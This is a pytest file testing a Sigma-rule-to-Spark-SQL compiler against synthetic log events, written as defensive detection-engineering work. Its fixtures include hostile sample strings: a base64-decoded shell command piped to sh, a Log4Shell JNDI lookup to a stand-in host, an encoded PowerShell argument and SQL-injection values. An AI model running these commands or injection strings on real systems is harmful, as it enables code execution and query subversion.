"""Sigma -> Spark SQL compiler: real Sigma YAML, compiled and run on real Spark over the real events schema.

The events have the schema rules compile against (:func:`alerts.detection_input.events_schema`: the parse's
core columns and ``detail`` through the real enrichment), so the rules see exactly the columns and types of the
``events`` table, including ``nightjar.user.is_admin``, ``threat.indicator.value`` and a source's own fields in
``detail``, which field names reach through :mod:`ingest.field_resolver`. Every case
asserts the exact set of matching events, and the rows include look-alikes that a wrong translation (an
unescaped ``%``, a dropped backslash, case-sensitive compare, a sloppy CIDR) would match.
"""

from __future__ import annotations

import base64
import datetime as dt
import ipaddress
import pickle
import textwrap

import pytest
from pyspark.sql import DataFrame
from pyspark.sql import functions as F
from pyspark.sql.types import StringType, StructField, StructType
from sigma.collection import SigmaCollection
from sigma.rule import SigmaRule

from alerts.logsource_map import NotApplicable, logsource_datasets
from alerts.sigma_compiler import RuleCompileError, compile_detection, resolve_field, sql_string
from ingest.field_resolver import SIGMA_TAXONOMY, resolve

B64_WHOAMI = base64.b64encode(b"sh -c 'whoami; id'").decode()

# event.id -> ECS fields. Names say what a row is for; "lookalike" and "tricky" exist to catch bad escaping.
EVENTS: dict[str, dict] = {
    "root": {
        "@timestamp": dt.datetime(2024, 3, 10, 3, 15), "event.action": "ssh_login",
        "event.outcome": "failure",
        "event.category": ["authentication"], "event.type": ["start"], "user.name": "root",
        "user.effective.name": "root", "source.ip": "10.255.255.255", "event.dataset": "system.auth",
        "detail": {"system.auth.ssh.method": "password", "log.syslog.procid": "4242"},
        "source.port": 51000,
        "destination.ip": "10.0.0.5", "destination.port": 22, "process.name": "sshd", "host.name": "web-01",
        "event.original": "Mar 10 03:15:00 web-01 sshd[4242]: Failed password for root from 10.255.255.255 "
                          "port 51000 ssh2",
        "message": "Failed password for root from 10.255.255.255 port 51000 ssh2",
        "related.ip": ["10.255.255.255"], "tags": ["SSH-bruteforce"],
        "nightjar.user.is_admin": True, "nightjar.user.department": "IT", "nightjar.source_zone": "corp",
    },
    "alice": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 0), "event.action": "ssh_login",
        "event.outcome": "success",
        "event.category": ["authentication"], "user.name": "Alice", "source.ip": "11.0.0.0",
        "event.dataset": "system.auth", "detail": {"system.auth.ssh.method": "publickey"},
        "destination.ip": "10.0.0.5", "destination.port": 22, "process.name": "sshd",
        "event.original": "Mar 10 12:00:00 web-01 sshd[4243]: Accepted publickey for Alice from 11.0.0.0 "
                          "port 40000 ssh2",
        "message": "Accepted publickey for Alice", "related.ip": ["11.0.0.0", "10.0.0.5"], "tags": ["ssh"],
        "nightjar.user.is_admin": False, "nightjar.user.department": "Engineering",
        "nightjar.destination_zone": "corp",
    },
    "bob": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 5), "event.action": "sudo", "event.outcome": "success",
        "event.category": ["process"], "user.name": "Bob", "user.effective.name": "bob", "event.dataset": "system.auth",
        "process.name": "sudo",
        "event.original": "Mar 10 12:05:00 web-01 sudo: Bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; "
                          "COMMAND=/usr/bin/passwd",
        "message": f"COMMAND=/bin/sh -c echo {B64_WHOAMI} | base64 -d | sh",
        "nightjar.user.is_admin": True, "nightjar.user.department": "IT",
    },
    "dns": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 10), "event.category": ["network"],
        "event.type": ["protocol"],
        "dns.question.name": "EVIL.Example.COM", "event.dataset": "zeek.dns",
        "detail": {"answers": '["1.2.3.4","evil.example.net"]', "TTLs": '["60","60"]', "rcode_name": "NOERROR"},
        "dns.resolved_ip": ["1.2.3.4"], "source.ip": "192.168.1.10", "destination.ip": "2001:DB8::53",
        "destination.port": 53, "network.bytes": 1500, "network.transport": "udp",
        "related.ip": ["192.168.1.10", "2001:db8::53"],
        "event.original": '{"_path":"dns","query":"EVIL.Example.COM"}',
        "threat.indicator.value": "evil.example.com", "threat.indicator.type": "domain",
        "threat.indicator.matched_field": "dns.question.name",
    },
    "big": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 20), "event.category": ["network"],
        "source.ip": "2001:db8:abcd:12::1", "destination.ip": "198.51.100.66", "destination.port": 443,
        "network.bytes": 10_000_000, "network.transport": "tcp", "event.original": '{"_path":"conn"}',
        "event.dataset": "zeek.conn", "detail": {"conn_state": "SF", "missed_bytes": "0", "local_orig": "true",
                                                 "duration": "12.5", "history": "ShADadFf"},
        "threat.indicator.value": "198.51.100.66", "threat.indicator.type": "ip",
        "threat.indicator.matched_field": "destination.ip", "network.direction": "outbound",
    },
    "small": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 30), "event.category": ["network"],
        "source.ip": "::ffff:10.0.0.1", "destination.ip": "fe80::1", "destination.port": 8080,
        "network.bytes": 99, "network.transport": "tcp", "event.original": '{"_path":"conn"}',
        "event.dataset": "zeek.conn", "detail": {"conn_state": "S0", "missed_bytes": "1460", "local_orig": "false",
                                                 "duration": "0.25"},
    },
    "tricky": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 40), "user.name": "o'brien", "source.ip": "10.0.0.256",
        "event.dataset": "system.syslog",
        "message": "100%_done, it's a \"quote\" in C:\\temp\\new and a literal * star",
        "event.original": "o'brien sent ${jndi:ldap://x.example/a}",
    },
    "lookalike": {
        "@timestamp": dt.datetime(2024, 3, 10, 12, 50), "user.name": "obrien", "source.ip": "192.168.1.16",
        "event.dataset": "system.syslog",
        "destination.ip": "febf::1", "dns.question.name": "evilXexample.com",
        "message": "100xydone, its a quote in C:tempnew and a literal x star",
        "event.original": "obrien sent $jndi, then ran powershell /enc ZQBjAGgAbwA=",
    },
    "multi": {
        "@timestamp": dt.datetime(2024, 3, 10, 13, 0), "user.name": "svc_42", "event.dataset": "system.syslog",
        "source.ip": "2001:db8:abcd:18::1", "destination.ip": "fec0::1",
        "message": "first\nsecond", "event.original": "first\nsecond",
    },
}
ALL = frozenset(EVENTS)
NO_USER = {"dns", "big", "small"}

def leaf_paths(schema: StructType, prefix: str = "") -> set[str]:
    out = set()
    for f in schema.fields:
        if isinstance(f.dataType, StructType):
            out |= leaf_paths(f.dataType, f"{prefix}{f.name}.")
        else:
            out.add(f"{prefix}{f.name}")
    return out


def nested(flat: dict, schema: StructType, prefix: str = "") -> dict | None:
    """``{"source.ip": v}`` -> ``{"source": {"ip": v, …}, …}`` for ``schema``; an all-null struct is null."""
    out = {}
    for f in schema.fields:
        path = f"{prefix}{f.name}"
        is_struct = isinstance(f.dataType, StructType)
        out[f.name] = nested(flat, f.dataType, path + ".") if is_struct else flat.get(path)
    return out if prefix == "" or any(v is not None for v in out.values()) else None


def events_schema(spark) -> StructType:
    """The schema rules compile against: the parse's ``events`` through the real enrichment (only planned)."""
    from alerts.detection_input import events_schema as derived

    return derived(spark)


@pytest.fixture(scope="module")
def events(spark) -> DataFrame:
    """The test events as a small local DataFrame with the events table's exact schema."""
    schema = events_schema(spark)
    unknown = {path for fields in EVENTS.values() for path in fields} - leaf_paths(schema)
    assert unknown == set()  # a typo in EVENTS would otherwise be a silently missing value
    rows = [nested({**fields, "event.id": name}, schema) for name, fields in EVENTS.items()]
    return spark.createDataFrame(rows, schema)


def rule_yaml(detection: str, title: str = "Test rule") -> str:
    return (f"title: {title}\nid: 0b7e4a53-1c38-4d3a-9a53-5f0f4a4b8e01\nname: test_rule\nstatus: test\n"
            f"logsource:\n  product: linux\ndetection:\n{textwrap.indent(textwrap.dedent(detection), '  ')}")


def sel(line: str) -> str:
    """A detection with one selection of one line: ``sel("user.name: root")``."""
    return f"sel:\n  {line}\ncondition: sel"


def matching(events: DataFrame, detection: str) -> set[str]:
    """The event ids ``events.where(F.expr(<compiled rule>))`` returns: the way the pipeline uses it."""
    sql = compile_detection(SigmaRule.from_yaml(rule_yaml(detection)), events.schema)
    return {r[0] for r in events.where(F.expr(sql)).select("event.id").collect()}


def compile_error(events: DataFrame, detection: str, title: str = "Broken rule") -> RuleCompileError:
    rule = SigmaCollection.from_yaml(rule_yaml(detection, title), collect_errors=True).rules[0]
    with pytest.raises(RuleCompileError) as info:
        compile_detection(rule, events.schema)
    return info.value


CASES: list[tuple[str, str, set[str]]] = [
    # strings: case-insensitive by default, whole value unless wildcards/modifiers say otherwise
    ("eq_case_insensitive", sel("user.name: ROOT"), {"root"}),
    ("eq_mixed_case_value", sel("user.name: aLiCe"), {"alice"}),
    ("eq_is_the_whole_value", sel("user.name: ali"), set()),
    ("value_list_is_or", sel("user.name: [root, bob]"), {"root", "bob"}),
    ("cased_exact_case", sel("user.name|cased: Alice"), {"alice"}),
    ("cased_other_case", sel("user.name|cased: alice"), set()),
    ("cased_wildcard", sel("dns.question.name|cased: '*.Example.COM'"), {"dns"}),
    ("wildcard_multi", sel("dns.question.name: '*.example.com'"), {"dns"}),
    ("wildcard_single", sel("user.name: 'b?b'"), {"bob"}),
    ("wildcard_single_is_one_char", sel("user.name: 'b?'"), set()),
    ("contains", sel("event.original|contains: 'FAILED password'"), {"root"}),
    ("startswith", sel("event.original|startswith: 'mar 10'"), {"root", "alice", "bob"}),
    ("endswith", sel("event.original|endswith: 'SSH2'"), {"root", "alice"}),
    ("contains_any", sel("event.original|contains: [password, 'USER=root']"), {"root", "bob"}),
    ("contains_all", sel("event.original|contains|all: [password, root]"), {"root"}),
    # escaping: LIKE metacharacters, Sigma's escaped wildcard, backslashes, quotes, ${...}
    ("percent_and_underscore_are_literal", sel("message|contains: '100%_done'"), {"tricky"}),
    ("escaped_star_is_literal", sel("message: '*literal \\* star'"), {"tricky"}),
    ("backslashes_are_literal", sel("message|contains: 'C:\\temp\\new'"), {"tricky"}),
    ("quote_in_value", sel("user.name: \"o'brien\""), {"tricky"}),
    ("double_quote_in_value", sel("message|contains: 'a \"quote\" in'"), {"tricky"}),
    ("injection_is_a_plain_value", sel("user.name: \"x' OR '1'='1\""), set()),
    ("backslash_quote_injection", sel("user.name: \"\\\\' OR true OR '\""), set()),
    # Spark would substitute ${x} (to '' here) in the SQL text, making this match every event
    ("spark_variable_reference_is_literal", sel("event.original|contains: '${x}'"), set()),
    ("spark_variable_syntax_is_literal", sel("event.original|contains: '${jndi:ldap://'"),
     {"tricky"}),
    # regular expressions: case-sensitive search, i/m/s flags, Java escapes, anchoring modifiers
    ("re_is_case_sensitive", sel("user.name|re: '^ali'"), set()),
    ("re_i", sel("user.name|re|i: '^ali'"), {"alice"}),
    ("re_searches_unanchored", sel("user.name|re: 'lic'"), {"alice"}),
    ("re_backslash_class", sel("user.name|re: '^svc_\\d+$'"), {"multi"}),
    ("re_escaped_dot", sel("dns.question.name|re|i: 'evil\\.example'"), {"dns"}),
    ("re_dot_without_s", sel("message|re: 'first.second'"), set()),
    ("re_dotall", sel("message|re|s: 'first.second'"), {"multi"}),
    ("re_without_m", sel("message|re: '^second$'"), set()),
    ("re_multiline", sel("message|re|m: '^second$'"), {"multi"}),
    ("re_startswith_anchors", sel("user.name|re|startswith: 'li'"), set()),
    ("re_startswith", sel("user.name|re|startswith: 'Al'"), {"alice"}),
    ("re_endswith", sel("user.name|re|endswith: 'ic'"), set()),
    # cidr on string IP columns, IPv4 and IPv6, scalar and array
    ("cidr_v4_edges", sel("source.ip|cidr: 10.0.0.0/8"), {"root"}),
    ("cidr_v4_unaligned", sel("source.ip|cidr: 192.168.1.0/28"), {"dns"}),
    ("cidr_v4_host", sel("destination.ip|cidr: 198.51.100.66/32"), {"big"}),
    ("cidr_v6", sel("source.ip|cidr: '2001:db8::/32'"), {"big", "multi"}),
    ("cidr_v6_partial_nibble", sel("source.ip|cidr: '2001:db8:abcd:10::/61'"), {"big"}),
    ("cidr_v6_host_any_notation", sel("destination.ip|cidr: '2001:0db8:0:0::53/128'"), {"dns"}),
    ("cidr_v6_link_local", sel("destination.ip|cidr: 'fe80::/10'"), {"small", "lookalike"}),
    ("cidr_list", sel("source.ip|cidr: [10.0.0.0/8, '2001:db8:abcd:18::/64']"),
     {"root", "multi"}),
    ("cidr_array_column", sel("related.ip|cidr: 10.0.0.0/24"), {"alice"}),
    # arrays: any element
    ("array_any_element", sel("event.category: Authentication"), {"root", "alice"}),
    ("array_no_partial_match", sel("event.category: auth"), set()),
    ("array_startswith", sel("tags|startswith: ssh"), {"root", "alice"}),
    ("detail_list_any_element", sel("answers: 1.2.3.4"), {"dns"}),
    ("detail_list_no_partial_match", sel("answers: 1.2.3"), set()),
    ("array_all_values", sel("related.ip|all: [11.0.0.0, 10.0.0.5]"), {"alice"}),
    # numbers
    ("gt", sel("network.bytes|gt: 1500"), {"big"}),
    ("gte", sel("network.bytes|gte: 1500"), {"dns", "big"}),
    ("lt", sel("network.bytes|lt: 100"), {"small"}),
    ("lte", sel("network.bytes|lte: 1500"), {"dns", "small"}),
    ("int_equality", sel("destination.port: 22"), {"root", "alice"}),
    ("int_from_quoted_string", sel("destination.port: '22'"), {"root", "alice"}),
    ("int_list", sel("destination.port: [53, 443]"), {"dns", "big"}),
    ("int_with_wildcard", sel("destination.port: '80*'"), {"small"}),
    # a source's own fields (detail): compared as the text the log wrote; numbers by value when compared
    ("number_on_detail_text", sel("missed_bytes: 0"), {"big"}),
    ("detail_compare_by_value", sel("missed_bytes|gt: 100"), {"small"}),
    ("detail_decimal_compare", sel("duration|gte: 1"), {"big"}),
    ("detail_boolean_text", sel("local_orig: true"), {"big"}),
    ("detail_string_case_insensitive", sel("conn_state: sf"), {"big"}),
    ("detail_alias_name", sel("zeek.connection.state: S0"), {"small"}),
    ("detail_missing_key_is_null", sel("history: null"), {"small"}),
    ("detail_key_of_another_source", sel("system.auth.ssh.method: publickey"), {"alice"}),
    # the logsource's datasets: the rule sees only their events
    ("scoped_to_datasets", sel("event.outcome: success"), {"alice", "bob"}),
    ("scoped_out", sel("destination.port: 22"), set()),
    # booleans, null, exists
    ("bool_false", sel("nightjar.user.is_admin: false"), {"alice"}),
    ("bool_true", sel("nightjar.user.is_admin: true"), {"root", "bob"}),
    ("null", sel("user.name: null"), NO_USER),
    ("exists_false", sel("user.name|exists: false"), NO_USER),
    ("exists_true", sel("user.name|exists: true"), ALL - NO_USER),
    ("array_null", sel("tags: null"), ALL - {"root", "alice"}),
    ("indicator_exists", sel("threat.indicator.value|exists: true"), {"dns", "big"}),
    # conditions and NULL: "not filter" matches events that lack the filter's field
    ("not_matches_missing_field", "sel:\n  event.category: network\nfilter:\n  user.name: root\n"
                                  "condition: sel and not filter", {"dns", "big", "small"}),
    ("not_of_array", "sel:\n  user.name|exists: true\nfilter:\n  event.category: authentication\n"
                     "condition: sel and not filter", {"bob", "tricky", "lookalike", "multi"}),
    ("neq", sel("user.name|neq: root"), ALL - {"root"}),
    ("one_of_selector", "sel_a:\n  user.name: root\nsel_b:\n  user.name: bob\ncondition: 1 of sel_*",
     {"root", "bob"}),
    ("all_of_selector", "sel_a:\n  event.category: authentication\nsel_b:\n  event.outcome: failure\n"
                        "condition: all of sel_*", {"root"}),
    ("all_of_them", "a:\n  process.name: sshd\nb:\n  source.ip|cidr: 11.0.0.0/8\ncondition: all of them",
     {"alice"}),
    ("list_of_maps_is_or", sel("- user.name: root\n  - destination.port: 53"), {"root", "dns"}),
    ("condition_list_is_or", "a:\n  user.name: root\nb:\n  user.name: bob\ncondition: [a, b]",
     {"root", "bob"}),
    # fieldref: compare two columns
    ("fieldref", sel("user.name|fieldref: user.effective.name"), {"root", "bob"}),
    ("fieldref_cased", sel("user.name|cased|fieldref: user.effective.name"), {"root"}),
    ("fieldref_contains", sel("event.original|fieldref|contains: user.name"),
     {"root", "alice", "bob", "tricky", "lookalike"}),
    # keywords: substring of event.original, case-insensitive
    ("keyword", "keywords:\n  - 'FAILED PASSWORD'\ncondition: keywords", {"root"}),
    ("keyword_wildcard", "keywords:\n  - 'accepted*alice'\ncondition: keywords", {"alice"}),
    ("keyword_regex", "keywords:\n  '|re': 'sshd\\[\\d+\\]: Acc'\ncondition: keywords", {"alice"}),
    ("keyword_cased", "keywords:\n  '|cased': 'failed password'\ncondition: keywords", set()),
    ("keyword_cased_match", "keywords:\n  '|cased': 'Failed password'\ncondition: keywords", {"root"}),
    ("keyword_list_is_or", "keywords:\n  - publickey\n  - passwd\ncondition: keywords", {"alice", "bob"}),
    ("keyword_and_field",
     "keywords:\n  - web-01\nsel:\n  event.outcome: success\ncondition: keywords and sel",
     {"alice", "bob"}),
    # Sigma taxonomy names and enrichment fields
    ("taxonomy_user", sel("User: root"), {"root"}),
    ("taxonomy_port", sel("DestinationPort: 53"), {"dns"}),
    ("taxonomy_query", sel("query|endswith: .example.com"), {"dns"}),
    ("taxonomy_src_ip_cidr", sel("SourceIp|cidr: 10.0.0.0/8"), {"root"}),
    ("taxonomy_dst_ip", sel("dst_ip: 198.51.100.66"), {"big"}),
    ("threat_indicator", sel("threat.indicator.value: EVIL.example.com"), {"dns"}),
    ("zone", sel("nightjar.source_zone: corp"), {"root"}),
    # other modifiers
    ("timestamp_hour", sel("'@timestamp|hour': 3"), {"root"}),
    ("windash", sel("event.original|windash|contains: ' -enc '"), {"lookalike"}),
    ("base64offset", sel("message|base64offset|contains: whoami"), {"bob"}),
]

# Cases compiled for the datasets of a logsource (as the loader does): names resolve per dataset, and the rule
# only sees their events. The others compile unscoped (every dataset).
CASE_DATASETS: dict[str, tuple[str, ...]] = {
    "detail_list_any_element": ("zeek.dns",), "detail_list_no_partial_match": ("zeek.dns",),
    "number_on_detail_text": ("zeek.conn",), "detail_compare_by_value": ("zeek.conn",),
    "detail_decimal_compare": ("zeek.conn",), "detail_boolean_text": ("zeek.conn",),
    "detail_string_case_insensitive": ("zeek.conn",), "detail_alias_name": ("zeek.conn",),
    "detail_missing_key_is_null": ("zeek.conn",), "detail_key_of_another_source": ("system.auth",),
    "scoped_to_datasets": ("system.auth",), "scoped_out": ("zeek.dns", "zeek.conn"),
}


@pytest.fixture(scope="module")
def case_results(events) -> dict[str, set[str] | Exception]:
    """Every case's matching ids from ONE Spark job (a column per compiled rule); a compile error is kept."""
    compiled: dict[str, str | Exception] = {}
    for name, detection, _ in CASES:
        try:
            compiled[name] = compile_detection(SigmaRule.from_yaml(rule_yaml(detection)), events.schema,
                                               CASE_DATASETS.get(name))
        except Exception as e:  # reported by that case's test, not by all of them
            compiled[name] = e
    sqls = {name: sql for name, sql in compiled.items() if isinstance(sql, str)}
    columns = [F.expr(sql).alias(name) for name, sql in sqls.items()]
    try:
        rows = events.select(F.col("event.id").alias("_id"), *columns).collect()
    except Exception:  # one bad expression fails the whole select: run each case alone to say which
        return {name: sql if isinstance(sql, Exception) else run_alone(events, sql)
                for name, sql in compiled.items()}
    for row in rows:
        assert all(row[n] is not None for n in sqls)  # two-valued: never NULL
    return {name: {r["_id"] for r in rows if r[name]} if name in sqls else compiled[name]
            for name in compiled}


def run_alone(events: DataFrame, sql: str) -> set[str] | Exception:
    try:
        return {r[0] for r in events.where(F.expr(sql)).select("event.id").collect()}
    except Exception as e:
        return e


@pytest.mark.parametrize(("name", "expected"), [(c[0], c[2]) for c in CASES], ids=[c[0] for c in CASES])
def test_rule_matches_exactly(case_results, name, expected):
    result = case_results[name]
    if isinstance(result, Exception):
        raise result
    assert result == expected


def test_where_and_its_negation_split_the_events(events):
    # The pipeline filters with where(); a two-valued predicate also negates cleanly (NULL fields included).
    detection = ("sel:\n  user.name: root\nfilter:\n  event.category: authentication\n"
                 "condition: sel or not filter")
    assert matching(events, detection) == ALL - {"alice"}
    sql = compile_detection(SigmaRule.from_yaml(rule_yaml(detection)), events.schema)
    assert {r[0] for r in events.where(~F.expr(sql)).select("event.id").collect()} == {"alice"}


def test_compiled_sql_shape(events):
    rule = SigmaRule.from_yaml(rule_yaml(
        "sel:\n  event.action: ssh_login\n  event.category: authentication\n  user.name|startswith: adm\n"
        "filter:\n  source.ip|cidr: 10.0.0.0/8\ncondition: sel and not filter"))
    sql = compile_detection(rule, events.schema)
    ipv4 = ("`source`.`ip` RLIKE '^(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])"
            "([.](25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3}$' AND "
            + " + ".join(f"try_cast(try_element_at(split(`source`.`ip`, '[.]'), {i}) AS BIGINT){m}"
                         for i, m in ((1, " * 16777216"), (2, " * 65536"), (3, " * 256"), (4, "")))
            + " BETWEEN 167772160 AND 184549375")
    assert sql == (
        "coalesce(((lower(`event`.`action`) = lower('ssh_login') AND "
        "exists(`event`.`category`, _x1 -> lower(_x1) = lower('authentication')) AND "
        "lower(`user`.`name`) LIKE lower('adm%')) AND "
        f"NOT coalesce(({ipv4}), false)), false)")
    assert "\n" not in sql


def test_sql_string_round_trips_hostile_values(spark):
    values = ["it's", "a\\b", "\\'", "x' OR '1'='1", "\\u0041", "tab\there", "nl\nx\r", "%_\\%\\_", "`", '"',
              "-- c", "/* c", "é😀", "\x00z\x01\x7f", "${spark.app.name}", "$${x}", "\\${x}", "end\\"]
    row = spark.range(1).select(*[F.expr(sql_string(v)).alias(f"c{i}") for i, v in enumerate(values)]).first()
    assert list(row) == values


def test_cidr_agrees_with_python_ipaddress(spark):
    networks = ["10.0.0.0/8", "192.168.1.0/28", "0.0.0.0/0", "172.16.0.0/12", "1.2.3.4/32", "::/0",
                "2001:db8::/32", "2001:db8:abcd:10::/61", "fe80::/10", "::1/128", "2001:db8::/127"]
    addresses = ["10.0.0.0", "10.255.255.255", "9.255.255.255", "11.0.0.0", "192.168.1.15", "192.168.1.16",
                 "172.31.255.255", "172.32.0.0", "1.2.3.4", "1.2.3.5", "0.0.0.0", "255.255.255.255",
                 "010.0.0.1", "10.0.0", "10.0.0.0.1", "10.0.0.256", "10.0.0.1 ", "", "not an ip",
                 "2001:db8::", "2001:DB8:FFFF:FFFF:FFFF:FFFF:FFFF:FFFF", "2001:db9::",
                 "2001:0db8:abcd:0017::1",
                 "2001:db8:abcd:18::", "fe80::1", "febf:ffff::", "fec0::", "::1", "::", "::2", "1::",
                 "2001:db8::1", "2001:db8::2", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7::", "1:2:3:4:5:6:7:8:9",
                 "1:2:3:4::5:6:7:8", "1::2::3", "12345::1", ":1::2", "1:2:3:4:5:6:7:", "::ffff:10.0.0.1",
                 "fe80::1%eth0"]

    def expected(address: str, network: str) -> bool:
        if "%" in address or "." in address and ":" in address:  # zone ids / embedded IPv4: not supported
            return False
        try:
            ip = ipaddress.ip_address(address)
        except ValueError:
            return False
        net = ipaddress.ip_network(network)
        return ip.version == net.version and ip in net

    schema = StructType([StructField("source", StructType([StructField("ip", StringType())]))])
    df = spark.createDataFrame([({"ip": a},) for a in addresses], schema)
    columns = []
    for i, network in enumerate(networks):
        rule = SigmaRule.from_yaml(rule_yaml(sel(f"source.ip|cidr: '{network}'")))
        columns.append(F.expr(compile_detection(rule, schema)).alias(f"n{i}"))
    rows = df.select("source.ip", *columns).collect()
    got = {(r["ip"], net): r[f"n{i}"] for r in rows for i, net in enumerate(networks)}
    want = {(a, net): expected(a, net) for a in addresses for net in networks}
    assert {k for k, v in got.items() if v != want[k]} == set()


# ------------------------------------------------------------------------------------------------ errors


def test_unknown_field_names_rule_and_field(events):
    err = compile_error(events, sel("usr.name: root"), title="Root login")
    assert "'Root login'" in str(err) and "0b7e4a53-1c38-4d3a-9a53-5f0f4a4b8e01" in str(err)
    assert "unknown field 'usr.name'" in str(err) and "did you mean 'user.name'" in str(err)
    assert err.problem.startswith("unknown field 'usr.name'") and "Root login" in err.rule
    assert "\n" not in str(err)


def test_unknown_mapped_field_names_both_names(events):
    # Events without process.* (e.g. a table written before the Windows parser existed): the mapped name is unknown.
    err = compile_error(events.drop("process"), sel("CommandLine|contains: wget"))
    assert "unknown field 'CommandLine'" in str(err) and "process.command_line" in str(err)


def test_unknown_field_in_fieldref(events):
    err = compile_error(events, sel("user.name|fieldref: user.nam"))
    assert "unknown field 'user.nam'" in str(err)


def test_unknown_modifier_names_rule_and_modifier(events):
    err = compile_error(events, sel("user.name|sounds_like: root"), title="Fuzzy")
    assert "'Fuzzy'" in str(err) and "sounds_like" in str(err) and "\n" not in str(err)


@pytest.mark.parametrize(("detection", "modifier"), [
    (sel("user.name|expand: '%admins%'"), "expand"),
    (sel("message|wide|contains: cmd"), "wide"),
])
def test_unsupported_modifier_names_modifier(events, detection, modifier):
    err = compile_error(events, detection, title="Odd modifiers")
    assert f"unsupported modifier '{modifier}'" in str(err) and "'Odd modifiers'" in str(err)


def test_base64_values_match_case_sensitively(events):
    rule = SigmaRule.from_yaml(rule_yaml(sel("message|base64|contains: whoami")))
    assert compile_detection(rule, events.schema) == "coalesce(`message` LIKE '%d2hvYW1p%', false)"


def test_wide_before_base64_is_supported(events):
    # PowerShell -EncodedCommand: base64 of UTF-16LE text; nothing matches here, but it must compile and run.
    assert matching(events, sel("message|wide|base64offset|contains: whoami")) == set()


@pytest.mark.parametrize(("detection", "needle"), [
    (sel("network.bytes|cidr: 10.0.0.0/8"), "cidr needs an IP address (string) field"),
    (sel("nightjar.user.is_admin: 1"), "number 1 cannot match field 'nightjar.user.is_admin'"),
    (sel("network.bytes: true"), "boolean true cannot match field 'network.bytes'"),
    (sel("'@timestamp|gt': 5"), "numeric comparison cannot apply to field '@timestamp'"),
    (sel("user.name|hour: 5"), "needs a timestamp field"),
    (sel("threat.indicator: x"), "unknown field 'threat.indicator'"),  # a struct, not a field
    (sel("conn_stat: SF"), "unknown field 'conn_stat'"),
    (sel("user.name|fieldref: related.ip"), "fieldref to 'related.ip'"),
    (sel("user.name|re: '(?P<n>x)'"), "(?P"),
    ("keywords:\n  - x\ncondition: keyword", "condition 'keyword'"),
])
def test_values_that_cannot_match_their_column_are_errors(events, detection, needle):
    assert needle in str(compile_error(events, detection))


def test_correlation_rule_is_not_a_single_event_rule(events):
    collection = SigmaCollection.from_yaml(rule_yaml(sel("user.name: root")) + textwrap.dedent("""
        ---
        title: Many root logins
        correlation:
          type: event_count
          rules: [test_rule]
          group-by: [source.ip]
          timespan: 5m
          condition: {gte: 10}
        """))
    correlation = collection.rules[1]
    with pytest.raises(RuleCompileError, match="not a single-event Sigma rule"):
        compile_detection(correlation, events.schema)


def test_error_pickles():
    err = RuleCompileError("'x' (id 1)", "unknown field 'y'")
    copy = pickle.loads(pickle.dumps(err))
    assert (copy.rule, copy.problem) == (err.rule, err.problem)
    assert str(copy) == "rule 'x' (id 1): unknown field 'y'"


def test_fields_resolve_through_the_one_resolver(events):
    rule = SigmaRule.from_yaml(rule_yaml(sel("User: root")))
    schema = events.schema
    assert resolve_field(rule, "source.ip", schema).sql == "`source`.`ip`"
    assert resolve_field(rule, "User", schema, ("system.auth",)).sql == "`user`.`name`"
    assert resolve_field(rule, "DestinationPort", schema, ("zeek.conn",)).sql == "`destination`.`port`"
    # Sysmon names its own User field (DOMAIN\\name): a detail key there, user.name elsewhere
    assert resolve_field(rule, "User", schema, ("windows.sysmon_operational",)).sql == "`detail`['User']"
    both = resolve_field(rule, "User", schema, ("system.auth", "windows.sysmon_operational")).sql
    assert both == ("CASE WHEN `event`.`dataset` IN ('system.auth') THEN `user`.`name` "
                    "WHEN `event`.`dataset` IN ('windows.sysmon_operational') THEN `detail`['User'] END")
    # an old wide path is an alias the resolver knows
    assert resolve_field(rule, "zeek.connection.state", schema, ("zeek.conn",)).sql == "`detail`['conn_state']"
    for name in SIGMA_TAXONOMY:  # every taxonomy name lands somewhere
        assert resolve(name).places


def test_scoped_rule_names_an_open_sources_own_data(events):
    # A Windows event's data cannot be listed: scoped to its datasets, any name is a key of detail.
    rule = SigmaRule.from_yaml(rule_yaml(sel("SomeEventDataKey: x")))
    sql = compile_detection(rule, events.schema, ("windows.security",))
    assert "`detail`['SomeEventDataKey']" in sql and "IN ('windows.security')" in sql
    # Unscoped, or with a dataset in scope that holds only declared fields (dhcpd, sshd's system.auth), a name no
    # source defines is refused, not silently never matching.
    with pytest.raises(RuleCompileError, match="unknown field 'SomeEventDataKey'"):
        compile_detection(rule, events.schema)
    with pytest.raises(RuleCompileError, match="unknown field 'SomeEventDataKey'.*datasets dhcpd, system.auth"):
        compile_detection(rule, events.schema, ("dhcpd", "system.auth", "system.syslog"))
    # syslog lines may carry a JSON payload: its keys are the dataset's own data
    assert "`detail`['SomeEventDataKey']" in compile_detection(rule, events.schema, ("system.syslog",))


@pytest.mark.parametrize(("logsource", "expected"), [
    ({"product": "linux", "service": "sshd"}, ("system.auth",)),
    ({"product": "linux", "service": "sudo"}, ("system.auth",)),
    ({"product": "linux", "service": "dhcpd"}, ("dhcpd",)),
    ({"product": "linux"}, ("dhcpd", "system.auth", "system.syslog")),
    ({"product": "zeek", "service": "dns"}, ("zeek.dns",)),
    ({"product": "windows", "service": "security"}, ("windows.security",)),
    ({"product": "windows", "service": "sysmon"}, ("windows.sysmon_operational",)),
    ({"product": "windows", "category": "process_creation"}, ("windows.security", "windows.sysmon_operational")),
    ({"category": "dns"}, ("zeek.dns",)),
    ({"category": "network"}, None),
])
def test_logsource_maps_to_registry_datasets(logsource, expected):
    from sigma.rule import SigmaLogSource

    assert logsource_datasets(SigmaLogSource.from_dict(logsource)) == expected


@pytest.mark.parametrize("logsource", [
    {"product": "linux", "category": "process_creation"}, {"product": "macos"},
    {"product": "windows", "service": "defender"}, {"product": "zeek", "service": "no_such_log"},
])
def test_logsource_no_dataset_serves_is_not_applicable(logsource):
    from sigma.rule import SigmaLogSource

    with pytest.raises(NotApplicable, match="not applicable: logsource"):
        logsource_datasets(SigmaLogSource.from_dict(logsource))
